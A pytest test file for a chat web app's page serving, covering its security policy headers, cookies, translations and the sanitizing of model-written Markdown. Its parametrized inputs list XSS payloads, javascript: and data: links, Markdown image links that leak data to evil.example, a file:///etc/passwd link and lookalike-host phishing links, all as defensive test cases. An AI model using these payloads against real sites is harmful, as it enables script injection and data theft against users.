"""The chat page as the server gives it: nothing of others in it, a cookie that no script reads, its words in both languages."""

import re
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from bridle.feedback.serving.reactions import FLAGGED_FOR, WHY
from bridle.site.languages import LANGUAGES, catalogue
from bridle.site.rendering import ROOMS, answer_html
from tests.chat_server import Script, scripted_app
from tests.house.source import ROOT

STATIC = ROOMS / "serve" / "static"
SCRIPTS = {file.name: file.read_text(encoding="utf-8") for file in sorted(STATIC.glob("*.js"))}
TEMPLATE = (ROOMS / "serve" / "templates" / "chat.html").read_text(encoding="utf-8")


@pytest.fixture
def client() -> Iterator[TestClient]:
    with TestClient(scripted_app(Script())) as client:
        yield client


def test_the_page_holds_nothing_of_others_and_no_script_of_its_own(client: TestClient) -> None:
    answer = client.get("/chat")
    assert answer.status_code == 200 and answer.headers["cache-control"] == "no-store"
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'self';" in policy and "unsafe" not in policy
    assert not re.search(r"<script[^>]*>[^<]|<style| style=| on\w+=|https?://(?!www\.w3)", answer.text)
    addresses = re.findall(r'(?:src|href)="(/static/[^"]+)"', answer.text)
    assert len(addresses) == 5
    for address in addresses:
        found = client.get(address)
        assert found.status_code == 200 and "immutable" in found.headers["cache-control"], address
    for name in SCRIPTS:
        assert client.get(f"/static/serve/{name}").headers["content-type"].startswith("text/javascript")


def test_behind_a_proxy_each_address_has_its_path() -> None:
    with TestClient(scripted_app(Script(), "/talk"), base_url="https://testserver") as client:
        page = client.get("/talk/chat")
    assert 'data-root="/talk"' in page.text and not re.findall(r'(?:src|href)="(/(?!talk/)[^"]*)"', page.text)
    assert all("Secure" in cookie for cookie in page.headers.get_list("set-cookie"))


def test_who_comes_has_a_secret_of_their_own_from_then_on(client: TestClient) -> None:
    cookie = client.get("/chat").headers["set-cookie"]
    secret = re.match(r"bridle_user=([\w-]{43});", cookie)
    assert secret and "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/;" in cookie
    assert "Secure" not in cookie  # there is no https here
    assert client.get("/chat").headers["set-cookie"] == cookie
    client.cookies.clear()
    assert secret[1] not in client.get("/chat").headers["set-cookie"]
    short = client.get("/chat", headers={"cookie": "bridle_user=guessed"})
    assert "guessed" not in short.headers["set-cookie"]


def test_the_language_is_that_which_was_chosen_and_stays(client: TestClient) -> None:
    assert '<html lang="zh">' in client.get("/chat", headers={"accept-language": "zh-CN"}).text
    assert '<html lang="en">' in client.get("/chat", headers={"accept-language": "xx"}).text
    assert '<html lang="zh">' in client.get("/chat?lang=zh").text
    assert '<html lang="zh">' in client.get("/chat", headers={"accept-language": "en"}).text
    assert '<html lang="zh">' in client.get("/chat?lang=<script>").text


OF_PROGRAMS = {"model_not_found", "missing_required_parameter", "invalid_api_key"}  # no page is told of these


def error_codes() -> set[str]:
    """Of all that the server refuses."""
    sources = "".join(path.read_text("utf-8") for path in (ROOT / "bridle/serve").rglob("*.py"))
    return {*re.findall(r'\bcode="(\w+)"', sources)}


def test_every_word_that_is_used_is_there_and_none_besides() -> None:
    used = {*re.findall(r't\("chat\.(\w+)"\)', TEMPLATE), *re.findall(r'plain\("\w+", "(\w+)"\)', TEMPLATE)}
    used |= {*re.findall(r'say\("(\w+)"', "".join(SCRIPTS.values())), "title", "placeholder", "up", "down"}
    used |= {*re.findall(r"t\(.chat\.(\w+).\)", TEMPLATE), "problem_kept", "problem_none"}
    used |= {"first", "second", "answer_first", "answer_second", "tie", "both_bad", "skip"}
    used |= {f"error_{code}" for code in error_codes() - OF_PROGRAMS} | {"error_server_error"}
    used |= {f"reason_{reason}" for reason in WHY} | {f"flag_{reason}" for reason in FLAGGED_FOR}
    for language in LANGUAGES:
        assert {key[5:] for key in catalogue(language) if key.startswith("chat.")} == used


def test_html_is_put_in_at_one_place_alone() -> None:
    """What the server made of Markdown; each other text of a model or a person is put in as text."""
    text = "".join(SCRIPTS.values())
    assert len(re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|setHTML|srcdoc", text)) == 1
    assert not re.search(r"\beval\b|new Function|https?://", text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<iframe src='//evil.example'></iframe><style>*{display:none}</style>",
        "![x](https://evil.example/leak?a=secret)",
        "![x][1]\n\n[1]: https://evil.example/leak",
        "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd)",
        "[out](/sign-out) [here](?lang=zh) [there](../x)",
        "[x](https://a.example 'title\" onclick=\"alert(1)')",
        "<form action=/v1/forget><button>Go</button></form><base href=//evil.example>",
        '```html"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
        "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    ],
)
def test_what_a_model_wrote_is_inert(text: str) -> None:
    html = answer_html(text)
    tags = re.findall(r"<(\w+)([^>]*)>", html)
    assert {name for name, _ in tags} <= {"p", "a", "code", "pre"}
    for name, attributes in tags:
        if name != "a":
            assert not attributes
            continue
        found = dict(re.findall(r'(\w+)="([^"]*)"', attributes))
        assert found.pop("rel") == "noopener noreferrer nofollow" and found.pop("target") == "_blank"
        assert found.keys() <= {"href"} and found.get("href", "https://").startswith("https://")


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[my *bank*](https://evil.example/x)", "evil.example"),
        ("[https://good.example](https://evil.example/)", "evil.example"),
        ("[x](https://good.example@evil.example:8/)", "evil.example:8"),
        ("[x](//evil.example/a)", "evil.example"),
        ("[pay](https://раypal.example/)", "xn--ypal-43d9g.example"),
        ("[me](mailto:a@b.example)", "a@b.example"),
        ("<https://a.example/b>", None),
        ("<a@b.example>", None),
    ],
)
def test_a_link_says_where_it_goes(text: str, host: str | None) -> None:
    assert answer_html(text).count("(") == (host is not None)
    assert host is None or f"</a> ({host})" in answer_html(text)
